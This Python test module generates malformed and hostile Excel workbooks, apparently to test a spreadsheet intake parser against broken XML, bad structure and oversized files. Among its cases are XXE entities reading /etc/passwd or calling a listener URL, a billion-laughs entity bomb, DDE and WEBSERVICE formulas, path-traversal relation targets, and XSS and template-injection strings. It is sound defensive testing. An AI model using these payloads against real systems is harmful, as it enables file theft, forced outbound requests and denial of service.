"""坏文件大全之二: workbooks whose XML, relations, styles, strings or cells are wrong, too large, or meant to harm."""

from __future__ import annotations

from collections.abc import Iterator

from tests.intake.corpus import (
    BOOK,
    HEAD,
    MAIN,
    OFFICE,
    PACKAGE,
    RELATIONS,
    ROSTER,
    SHEET,
    STRINGS,
    STYLES,
    TYPES,
    Seed,
    book,
    cell,
    relations,
    roster_and,
    rows_of,
    sheet,
    styles,
    table,
    with_sheet,
    workbook,
)

WHOLE = rows_of(ROSTER)
LAUGHS = "".join(
    f'<!ENTITY l{at} "{"&l" + str(at - 1) + ";" if at else "lol"}{"&l" + str(at - 1) + ";" if at else ""}">'
    for at in range(30)
)


def seeds(listener: str) -> list[Seed]:
    return [*_hostile(listener), *_xml(), *_structure(listener), *_styles(), *_cells(), *_size(), *_values()]


def _hostile(listener: str) -> Iterator[Seed]:
    doctypes = {
        "外部文件": '<!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd">]>',
        "外部地址": f'<!DOCTYPE x [<!ENTITY a SYSTEM "{listener}/xxe">]>',
        "外部 DTD": f'<!DOCTYPE x SYSTEM "{listener}/x.dtd">',
        "参数实体": f'<!DOCTYPE x [<!ENTITY % p SYSTEM "{listener}/p"> %p;]>',
        "笑声": f"<!DOCTYPE x [{LAUGHS}]>",
        "小写": '<!doctype x [<!entity a "b">]>',
        "隔开": '<!\nDOCTYPE x [<!ENTITY a "b">]>',
        "只有 DOCTYPE": "<!DOCTYPE x>",
    }
    for name, doctype in doctypes.items():
        text = f'<?xml version="1.0"?>{doctype}<sst xmlns="{MAIN}"><si><t>&a;</t></si></sst>'.encode()
        yield Seed("hostile", f"实体 {name}.xlsx", workbook({STRINGS: text}), "XML")
    body = f'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY a SYSTEM "{listener}/y">]><x>&a;</x>'
    for part in (
        SHEET,
        BOOK,
        RELATIONS,
        STYLES,
        TYPES,
        "_rels/.rels",
        "docProps/app.xml",
        "xl/drawings/vmlDrawing1.vml",
    ):
        yield Seed("hostile", f"实体 在 {part.replace('/', '_')}.xlsx", workbook({part: body.encode()}), "XML")
    for encoding in ("utf-16", "utf-16-le", "utf-16-be", "utf-32"):
        yield Seed("hostile", f"实体 {encoding}.xlsx", workbook({STRINGS: body.encode(encoding)}), "XML")
    seven = b'<?xml version="1.0" encoding="UTF-7"?>+ADwAIQ-DOCTYPE x+AD4-<sst/>'
    yield Seed("hostile", "实体 utf-7.xlsx", workbook({STRINGS: seven}))
    link = f'<R xmlns="{PACKAGE}/relationships"><Relationship Id="rId1" Target="{listener}/b.xlsx" TargetMode="External"/></R>'
    outside = {"xl/externalLinks/_rels/externalLink1.xml.rels": link.encode()}
    yield Seed("hostile", "外部链接.xlsx", workbook(outside), "别的文件")
    for name, formula in {
        "网络函数": f'WEBSERVICE("{listener}/w")',
        "动态数据": "cmd|'/c calc'!A1",
        "超链接": f'HYPERLINK("{listener}/h","x")',
        "引用别的文件": f"'{listener}/[b.xlsx]S'!A1",
    }.items():
        row = f'<row r="4"><c r="A4"><f>{formula.replace("&", "&amp;").replace("<", "&lt;")}</f></c></row>'
        yield Seed("hostile", f"公式 {name}.xlsx", with_sheet(WHOLE + row))
    connection = f'<connections><connection id="1"><webPr url="{listener}/c"/></connection></connections>'
    yield Seed("hostile", "数据连接.xlsx", workbook({"xl/connections.xml": connection.encode()}))
    include = f'<x xmlns:xi="http://www.w3.org/2001/XInclude"><xi:include href="{listener}/i"/></x>'
    yield Seed("hostile", "包含别的 XML.xlsx", workbook({STYLES: include.encode()}))


def _xml() -> Iterator[Seed]:
    broken = {
        "空": b"",
        "不是 XML": b"\x89PNG\r\n\x1a\n" * 20,
        "没有结束": sheet(WHOLE)[:-30],
        "标签不配": sheet(WHOLE).replace(b"</row>", b"</c>"),
        "半个标签": sheet(WHOLE)[:-5] + b"<",
        "坏 UTF-8": sheet(WHOLE).replace("姓名".encode(), b"\xe5\xa7\xff\xfe"),
        "空字符": sheet(WHOLE).replace("姓名".encode(), b"a\x00b"),
        "控制字符": sheet(WHOLE).replace("姓名".encode(), b"\x01\x02\x03\x1b[31m"),
        "字符引用零": sheet(WHOLE).replace("姓名".encode(), b"&#0;"),
        "字符引用太大": sheet(WHOLE).replace("姓名".encode(), b"&#x7FFFFFFF;"),
        "没有的实体": sheet(WHOLE).replace("姓名".encode(), b"&nosuch;"),
        "CDATA": sheet(WHOLE).replace("姓名".encode(), "<![CDATA[姓名]]>".encode()),
        "没有结束的 CDATA": sheet(WHOLE).replace("姓名".encode(), b"<![CDATA["),
        "没有结束的注释": sheet(WHOLE).replace(b"<sheetData>", b"<sheetData><!-- "),
        "属性没有引号": sheet(WHOLE).replace(b'r="A1"', b"r=A1"),
        "属性重复": sheet(WHOLE).replace(b'r="A1"', b'r="A1" r="B9"'),
        "单引号": sheet(WHOLE).replace(b'"', b"'"),
        "别的根": b"<html><body>x</body></html>",
        "latin-1": sheet(WHOLE).replace(b"UTF-8", b"ISO-8859-1"),
        "处理指令": sheet(WHOLE).replace(b"<sheetData>", b"<?php system('id'); ?><sheetData>"),
        "两个根": sheet(WHOLE) + sheet(WHOLE),
        "有前缀": sheet(WHOLE).replace(b"<", b"<x:").replace(b"<x:/", b"</x:").replace(b"<x:?", b"<?"),
        "没有命名空间": sheet(WHOLE).replace(f' xmlns="{MAIN}"'.encode(), b""),
        "很长的属性": sheet(WHOLE, before=f'<sheetPr codeName="{"x" * 500_000}"/>'),
        "很多属性": sheet(WHOLE, before="<sheetPr " + " ".join(f'a{at}="1"' for at in range(20_000)) + "/>"),
        "十万层": sheet(WHOLE, before="<a>" * 100_000 + "</a>" * 100_000),
        "很多注释": sheet("<!--x-->" * 50_000 + WHOLE),
    }
    for name, content in broken.items():
        heavy = len(content) > 400_000
        yield Seed("xml", f"XML {name}.xlsx", workbook({SHEET: content}), heavy=heavy)


def _structure(listener: str) -> Iterator[Seed]:
    def related(target: str, *, mode: str = "") -> dict[str, bytes | None]:
        text = relations().replace(b'Target="worksheets/sheet1.xml"', f'Target="{target}"{mode}'.encode())
        return {RELATIONS: text}

    cases: dict[str, tuple[dict[str, bytes | None], str]] = {
        "缺工作簿": ({BOOK: None}, "不是表格"),
        "缺关系": ({RELATIONS: None}, ""),
        "缺根关系": ({"_rels/.rels": None}, ""),
        "缺类型": ({TYPES: None}, ""),
        "缺工作表": ({SHEET: None}, ""),
        "缺样式": ({STYLES: None}, ""),
        "缺字符串": ({STRINGS: None}, ""),
        "没有表": ({BOOK: book([])}, ""),
        "关系指向没有的": (related("worksheets/nine.xml"), ""),
        "关系指向自己": (related("workbook.xml"), ""),
        "关系指向样式": (related("styles.xml"), ""),
        "关系指向上级": (related("../../../etc/passwd"), ""),
        "关系指向绝对": (related("/etc/passwd"), ""),
        "关系指向文件地址": (related("file:///etc/passwd", mode=' TargetMode="External"'), ""),
        "关系指向网络": (related(f"{listener}/s.xml", mode=' TargetMode="External"'), ""),
        "关系没有目标": ({RELATIONS: relations().replace(b' Target="worksheets/sheet1.xml"', b"")}, ""),
        "关系同号": ({RELATIONS: relations(extra=f'<Relationship Id="rId1" Type="{OFFICE}/styles" Target="styles.xml"/>')}, ""),
        "三百张表": ({BOOK: book([f"表{at}" for at in range(300)]), RELATIONS: relations(300)}, ""),
        "三百零一张表": ({BOOK: book([f"表{at}" for at in range(301)]), RELATIONS: relations(301)}, "300 张"),
        "表名相同": ({BOOK: book(["花名册", "花名册"]), RELATIONS: relations(1)}, ""),
        "表名很长": ({BOOK: book(["花" * 5_000])}, ""),
        "表名为空": ({BOOK: book([""])}, ""),
        "表名有标记": ({BOOK: book(['<script>alert(1)</script>"&'])}, ""),
        "表名像公式": ({BOOK: book(["=cmd|'/c calc'!A1"])}, ""),
        "表名有换行": ({BOOK: book(["花名册\n\r\t第二行"])}, ""),
        "表名有花括号": ({BOOK: book(["{sheet}{0.__class__}"])}, ""),
        "隐藏的表": ({BOOK: book().replace(b"<sheet ", b'<sheet state="veryHidden" ')}, ""),
        "图表当表": ({RELATIONS: relations().replace(b"/worksheet", b"/chartsheet")}, ""),
        "对话框当表": ({RELATIONS: relations().replace(b"/worksheet", b"/dialogsheet")}, ""),
        "宏表": ({RELATIONS: relations().replace(b"/worksheet", b"/xlMacrosheet")}, ""),
        "类型全错": ({TYPES: f'{HEAD}<Types xmlns="{PACKAGE}/content-types"/>'.encode()}, ""),
        "类型说是图片": ({TYPES: b'<Types><Default Extension="xml" ContentType="image/png"/></Types>'}, ""),
        "1904 不是真假": ({BOOK: book(extra='<workbookPr date1904="maybe"/>')}, ""),
        "名称很多": ({BOOK: book(extra="<definedNames>" + '<definedName name="a">S!$A$1</definedName>' * 9_000 + "</definedNames>")}, ""),
        "名称成环": ({BOOK: book(extra='<definedNames><definedName name="a">a</definedName></definedNames>')}, ""),
    }  # fmt: skip
    for name, (changes, says) in cases.items():
        yield Seed("structure", f"结构 {name}.xlsx", workbook(changes), says)


def _styles() -> Iterator[Seed]:
    day = '<row r="4"><c r="A4" t="inlineStr"><is><t>A3</t></is></c><c r="B4" t="inlineStr"><is><t>丙三</t></is></c><c r="D4" s="1"><v>45383</v></c></row>'
    number = '<numFmts count="1"><numFmt numFmtId="200" formatCode="%s"/></numFmts>'
    cases: dict[str, bytes] = {
        "样式 空": b"",
        "样式 没有格式": f'<styleSheet xmlns="{MAIN}"/>'.encode(),
        "样式 数目是谎": styles().replace(b'cellXfs count="2"', b'cellXfs count="4294967295"'),
        "样式 数目为负": styles().replace(b'cellXfs count="2"', b'cellXfs count="-1"'),
        "样式 格式号太大": styles('<xf numFmtId="4294967296"/><xf numFmtId="99999999999999"/>'),
        "样式 格式号不是数": styles('<xf numFmtId="x"/><xf numFmtId="&#233;"/>'),
        "样式 格式没有结束": styles(
            '<xf numFmtId="0"/><xf numFmtId="200"/>',
            numbers=number % '[$-804]yyyy&quot;"[[[[\\\\'.replace('"', "&quot;"),
        ),
        "样式 格式很长": styles('<xf numFmtId="0"/><xf numFmtId="200"/>', numbers=number % ("y" * 300_000)),
        "样式 格式是条件": styles('<xf numFmtId="0"/><xf numFmtId="200"/>', numbers=number % "[&gt;999999999999]d;;;@"),
    }
    for name, content in cases.items():
        yield Seed("styles", f"{name}.xlsx", workbook({STYLES: content, SHEET: sheet(WHOLE + day)}))
    for index in ("2", "-1", "4294967296", "x", ""):
        row = day.replace('s="1"', f's="{index}"')
        yield Seed("styles", f"样式 序号“{index}”.xlsx", with_sheet(WHOLE + row))
    for index in ("2", "-1", "4294967296", "99999999999999999999", "x", "", "1.5", " 1 "):
        row = f'<row r="4"><c r="A4" t="s"><v>{index}</v></c></row>'
        yield Seed("strings", f"字符串 序号“{index}”.xlsx", with_sheet(WHOLE + row))
    strings = {
        "空": b"",
        "数目是谎": f'<sst xmlns="{MAIN}" count="4294967295" uniqueCount="4294967295"><si><t>a</t></si></sst>'.encode(),
        "套着": f'<sst xmlns="{MAIN}">{"<si>" * 3_000}<t>a</t>{"</si>" * 3_000}</sst>'.encode(),
        "没有字": f'<sst xmlns="{MAIN}"><si/><si><t/></si></sst>'.encode(),
        "富文本很多": f'<sst xmlns="{MAIN}"><si>{"<r><t>a</t></r>" * 20_000}</si></sst>'.encode(),
        "拼音": f'<sst xmlns="{MAIN}"><si><t>甲</t><rPh sb="0" eb="9"><t>jia</t></rPh></si></sst>'.encode(),
    }
    row = '<row r="4"><c r="A4" t="s"><v>0</v></c><c r="B4" t="s"><v>0</v></c></row>'
    for name, content in strings.items():
        yield Seed("strings", f"字符串 {name}.xlsx", workbook({STRINGS: content, SHEET: sheet(WHOLE + row)}))


def _cells() -> Iterator[Seed]:
    references = (
        "A0",
        "a4",
        "4",
        "A",
        "",
        "ZZZZ4",
        "A99999999999",
        "A-4",
        "$A$4",
        "R4C1",
        "A4:B5",
        "Ａ４",
        "XFE4",
        "A1048577",
    )
    for reference in references:
        yield Seed(
            "cells",
            f"格子 位置“{reference.replace(':', '至')}”.xlsx",
            with_sheet(WHOLE + f'<row r="4">{cell(reference, "甲一")}</row>'),
        )
    values = (
        "1e999",
        "-1e999",
        "NaN",
        "INF",
        "1e308",
        "-1e-308",
        "0x1F",
        "1,000",
        "１２",
        "--5",
        "1" * 10_000,
        "",
        " ",
        "1e",
        "+",
    )
    for at, value in enumerate(values):
        row = f'<row r="4">{cell("A4", "A9")}<c r="B4" t="str"><v>丁四</v></c><c r="D4"><v>{value}</v></c></row>'
        there = ("花名册", 4, "用工起始日期") if value.strip() else None
        yield Seed("cells", f"格子 数 {at}.xlsx", with_sheet(WHOLE + row), at=there)
    kinds = ("zzz", "b", "e", "d", "n", "s", "str", "inlineStr", "")
    for kind in kinds:
        row = f'<row r="4"><c r="D4" t="{kind}"><v>2026-02-30T99:99:99Z</v></c></row>'
        yield Seed("cells", f"格子 类型“{kind}”.xlsx", with_sheet(WHOLE + row))
    rows = {
        "行号零": f'<row r="0">{cell("A4", "甲一")}</row>',
        "行号为负": f'<row r="-4">{cell("A4", "甲一")}</row>',
        "行号太大": f'<row r="99999999999999999999">{cell("A4", "甲一")}</row>',
        "没有行号": f"<row>{cell('A4', '甲一')}</row>",
        "没有位置": '<row r="4"><c><v>1</v></c><c><v>2</v></c></row>',
        "行号倒着": f'<row r="9">{cell("A9", "甲一")}</row><row r="2">{cell("A2", "乙二")}</row>',
        "格子重复": f'<row r="4">{cell("A4", "甲一")}{cell("A4", "乙二")}</row>',
        "格子在别行": f'<row r="4">{cell("A9", "甲一")}{cell("B2", "乙二")}</row>',
        "格子套格子": '<row r="4"><c r="A4"><c r="B4"><v>1</v></c></c></row>',
        "行套行": '<row r="4"><row r="5"><c r="A5"><v>1</v></c></row></row>',
        "公式没有结果": '<row r="4"><c r="A4" t="str"><v>A9</v></c><c r="B4" t="str"><v>丁四</v></c><c r="D4"><f>A1+1</f></c></row>',
        "共享公式很远": '<row r="4"><c r="A4"><f t="shared" ref="A4:XFD1048576" si="0">A1</f><v>1</v></c></row>',
        "共享公式没有": '<row r="4"><c r="A4"><f t="shared" si="4294967295"/><v>1</v></c></row>',
        "数组公式": '<row r="4"><c r="A4"><f t="array" ref="A4:A1048576">A1:A9</f><v>1</v></c></row>',
        "公式很长": f'<row r="4"><c r="A4"><f>{"(" * 200_000}</f><v>1</v></c></row>',
    }
    for name, body in rows.items():
        there = ("花名册", 4, "用工起始日期") if name == "公式没有结果" else None
        yield Seed("cells", f"格子 {name}.xlsx", with_sheet(WHOLE + body), at=there, heavy=len(body) > 100_000)
    yield from _failed()
    for box in ("A1:XFD1048576", "A1", "B2:A1", "A1:A1", "ZZZZ1:A9", "", ":", "A0:B0", "A1:B2:C3"):
        after = f'<mergeCells count="1"><mergeCell ref="{box}"/></mergeCells>'
        yield Seed("cells", f"合并“{box.replace(':', '至')}”.xlsx", with_sheet(WHOLE, after=after))
    for box in ("A1:XFD1048576", "B9:A1", "", "XFD1048576", "A1:A99999999999", "x"):
        yield Seed(
            "cells", f"尺寸“{box.replace(':', '至')}”.xlsx", with_sheet(WHOLE, before=f'<dimension ref="{box}"/>')
        )


def _failed() -> Iterator[Seed]:
    """公式出错: however its cell is written, a formula that failed is told of with its place, and never taken for an empty cell."""
    row = '<row r="4"><c r="A4" t="str"><v>A3</v></c><c r="B4" t="str"><v>丙三</v></c><c r="D4" t="e"><v>#REF!</v></c></row>'
    there = ("花名册", 4, "用工起始日期")
    written = {
        "双引号": row,
        "单引号": row.replace('"', "'"),
        "有空格": row.replace('t="e"', ' t = "e" '),
        "小写": row.replace('"D4"', '"d4"'),
        "先类型": row.replace('r="D4" t="e"', 't="e" r="D4"'),
        "有公式": row.replace("<v>#REF!", "<f>A1+B9</f><v>#REF!"),
        "不适用": row.replace("#REF!", "#N/A"),
    }
    for name, body in written.items():
        yield Seed("cells", f"公式出错 {name}.xlsx", with_sheet(WHOLE + body), at=there)
    prefixed = sheet(WHOLE + row).replace(b"<", b"<x:").replace(b"<x:/", b"</x:").replace(b"<x:?", b"<?")
    prefixed = prefixed.replace(b" xmlns=", b" xmlns:x=")
    yield Seed("cells", "公式出错 有前缀.xlsx", workbook({SHEET: prefixed}), at=there)
    elsewhere = {SHEET: None, RELATIONS: relations().replace(b"worksheets/", b"tables/")}
    for name, path in {"别处": "xl/tables/sheet1.xml", "别处大写": "xl/Tables/Sheet1.XML"}.items():
        yield Seed("cells", f"公式出错 在{name}.xlsx", workbook({**elsewhere, path: sheet(WHOLE + row)}), at=there)
    said = {"单引号的工作簿": {BOOK: book().replace(b'"', b"'")}, "单引号的关系": {RELATIONS: relations().replace(b'"', b"'")},
            "表名是数字引用": {BOOK: book().replace("花名册".encode(), b"&#33457;&#x540D;&#20876;")},
            "表名有引号": {BOOK: book(["花名册'\"&<>"])}}  # fmt: skip
    for name, parts in said.items():
        place = ("花名册'\"&<>", *there[1:]) if name == "表名有引号" else there
        yield Seed("cells", f"公式出错 {name}.xlsx", workbook({SHEET: sheet(WHOLE + row), **parts}), at=place)
    upper = {SHEET: None, "xl/Worksheets/Sheet1.xml": sheet(WHOLE + row)}
    yield Seed("cells", "公式出错 部分名大写.xlsx", workbook(upper), at=there)
    lost = relations().replace(b"worksheets/", b"../xl/worksheets/")
    yield Seed("cells", "公式出错 找不到是哪张表.xlsx", workbook({SHEET: sheet(WHOLE + row), RELATIONS: lost}))
    bare = WHOLE + row.replace(' r="A4"', "").replace(' r="B4"', "").replace('<c r="D4"', "<c/><c")
    yield Seed("cells", "公式出错 没有位置.xlsx", with_sheet(bare), "改正公式")
    unsaved = bare.replace(' t="e"', "").replace("<v>#REF!</v>", "<f>A1+B9</f>")
    yield Seed("cells", "公式没有结果 没有位置.xlsx", with_sheet(unsaved), "改正公式")

    def too_many() -> bytes:
        rows = (
            f'<row r="{at}">{"".join(f"""<c r="{x}{at}" t="e"><v>#REF!</v></c>""" for x in "ABC")}</row>'
            for at in range(4, 40_000)
        )
        return with_sheet(WHOLE + "".join(rows))

    yield Seed("cells", "公式出错 十万处以上.xlsx", too_many, "改正公式", heavy=True)


def _size() -> Iterator[Seed]:
    yield Seed(
        "size", "远 末格.xlsx", with_sheet(WHOLE + f'<row r="1048576">{cell("XFD1048576", 1)}</row>'), "XFD1048576"
    )
    yield Seed("size", "远 末列.xlsx", with_sheet(WHOLE + f'<row r="4">{cell("GS4", 1)}</row>'), "GS4")
    yield Seed("size", "远 末行.xlsx", with_sheet(WHOLE + f'<row r="50001">{cell("A50001", 1)}</row>'), "A50001")
    quoted = f'<row r="1048576">{cell("XFD1048576", 1)}</row>'.replace('"', "'")
    yield Seed("size", "远 单引号.xlsx", with_sheet(WHOLE + quoted), heavy=True)
    spaced = '<row r="1048576"><c  s="0"\n r = "XFD1048576"><v>1</v></c></row>'
    yield Seed("size", "远 有空格.xlsx", with_sheet(WHOLE + spaced), heavy=True)
    prefixed = (
        sheet(WHOLE + f'<row r="1048576">{cell("XFD1048576", 1)}</row>')
        .replace(b"<c ", b"<x:c ")
        .replace(b"</c>", b"</x:c>")
    )
    yield Seed("size", "远 有前缀.xlsx", workbook({SHEET: prefixed}), heavy=True)
    two = f'<row r="1">{cell("A1", 1)}</row><row r="49000">{cell("GR49000", 1)}</row>'
    yield Seed("size", "空 一千万格.xlsx", with_sheet(two), "太大", heavy=True)

    def empties() -> bytes:
        rows = (f'<row r="{at}"><c r="A{at}" s="1"/><c r="XFD{at}" s="1"/></row>' for at in range(4, 3_000))
        return with_sheet(WHOLE + "".join(rows))

    def merges() -> bytes:
        boxes = "".join(f'<mergeCell ref="A{at}:B{at}"/>' for at in range(4, 60_000))
        return with_sheet(WHOLE, after=f"<mergeCells>{boxes}</mergeCells>")

    def shared() -> bytes:
        text = f'<sst xmlns="{MAIN}"><si><t>{"x" * 30_000}</t></si></sst>'.encode()
        lines = []
        for at in range(1, 40_000):
            cells = "".join(f'<c r="{chr(65 + column)}{at}" t="s"><v>0</v></c>' for column in range(20))
            lines.append(f'<row r="{at}">{cells}</row>')
        return workbook({STRINGS: text, SHEET: sheet("".join(lines))})

    def errors() -> bytes:
        rows = (f'<row r="{at}"><c r="A{at}" t="e"><v>#REF!</v></c></row>' for at in range(4, 30_000))
        return with_sheet(WHOLE + "".join(rows))

    yield Seed("size", "空 有格式.xlsx", empties, heavy=True)
    yield Seed("size", "合并六万处.xlsx", merges, heavy=True)
    yield Seed("size", "字符串 用八十万次.xlsx", shared, "太大", heavy=True)
    yield Seed(
        "size",
        "格子 三百万字.xlsx",
        lambda: with_sheet(WHOLE + f'<row r="4">{cell("A4", "甲" * 3_000_000)}</row>'),
        heavy=True,
    )
    yield Seed("size", "错误三万处.xlsx", errors, heavy=True)


def _values() -> Iterator[Seed]:
    head = ("工号", "姓名", "部门", "用工起始日期", "约定月工资")
    days = (-1, 0, 1, 59, 60, 2_958_466, 1e10, 0.5, "0000-00-00", "1900-01-00", "2026-02-29", "2026-13-01", "2026-04-31",
            "30001-01-01", "9999-99-99", "二月三十", "明天", "2026-02-30 25:61", "1/13/2026/5", "２０２６－０２－３０")  # fmt: skip
    for at, day in enumerate(days):
        rows = (head, ("A1", "甲一", "一部", day, 5_000), ("A2", "乙二", "一部", "2024-03-01", 5_000))
        yield Seed("values", f"日期 {at}.xlsx", table(rows), at=("花名册", 2, "用工起始日期"))
    sums = (
        -5_000,
        1e18,
        1e300,
        "五千多",
        "1e400",
        "5,00,0.0.0",
        "5000元/月左右",
        "NaN",
        "∞",
        "0x1388",
        "=1+1",
        "1" * 400,
    )
    for at, money in enumerate(sums):
        rows = (head, ("A1", "甲一", "一部", "2024-03-01", 5_000), ("A2", "乙二", "一部", "2024-03-01", money))
        yield Seed("values", f"金额 {at}.xlsx", table(rows), at=("花名册", 3, "约定月工资"))
    hours = (-8, 9_999, "很多", "8小时又半", 1e12)
    for at, time in enumerate(hours):
        rows = (("姓名", "月份", "实际工作小时"), ("甲一", "2026-03", time))
        yield Seed("values", f"工时 {at}.xlsx", roster_and("考勤", rows), at=("考勤", 2, "实际工作小时"))
    months = ("2026-13", "1900-01", 2026.1, "十三月", 99_999_999, "2026-00")
    for at, month in enumerate(months):
        rows = (("姓名", "月份", "实际工作小时"), ("甲一", "2026-02", 8), ("乙二", month, 8))
        yield Seed("values", f"月份 {at}.xlsx", roster_and("考勤", rows), at=("考勤", 3, "月份"))
    odd = {
        "零宽": "甲\u200b\u200c\ufeff一",
        "终端": "甲\x7f\x9b31m一",
        "软连字": "甲\xad一",
        "右到左": "\u202e一甲",
        "表情": "甲👩‍👩‍👧一",
        "组合": "e" + "\u0301" * 500,
        "代用": "\U000e0041\U0010ffff",
        "控制": "甲_x0000__x0007_一",
        "很长": "甲" * 40_000,
        "公式": "=HYPERLINK(1)",
        "花括号": "{read}{0.__class__.__init__.__globals__}",
        "百分号": "%s%n%d",
        "路径": "../../../etc/passwd",
        "标记": "<img src=x onerror=alert(1)>",
    }
    for name, text in odd.items():
        for place, row in {
            "姓名": ("A1", text, "一部", "2024-03-01"),
            "日期": ("A1", "甲一", "一部", text),
            "表头": None,
        }.items():
            rows = (ROSTER[0], row or ROSTER[1]) if row else ((*ROSTER[0], text), (*ROSTER[1], "x"))
            at = ("花名册", 2, "用工起始日期") if place == "日期" else None
            yield Seed("values", f"文字 {name} 在{place}.xlsx", table(rows), at=at)
    hidden = [(f"{one[:1]}\u200b{one[1:]}" if isinstance(one, str) else one) for one in ROSTER[0]]
    yield Seed("values", "看不见的字 在表头.xlsx", table((hidden, *ROSTER[1:])))
    pay = (("姓名", "月份", "实际工作小时"), ("甲\u200d一\ufeff", "2026-03", 8))
    yield Seed("values", "看不见的字 在两张表.xlsx", roster_and("考勤", pay))
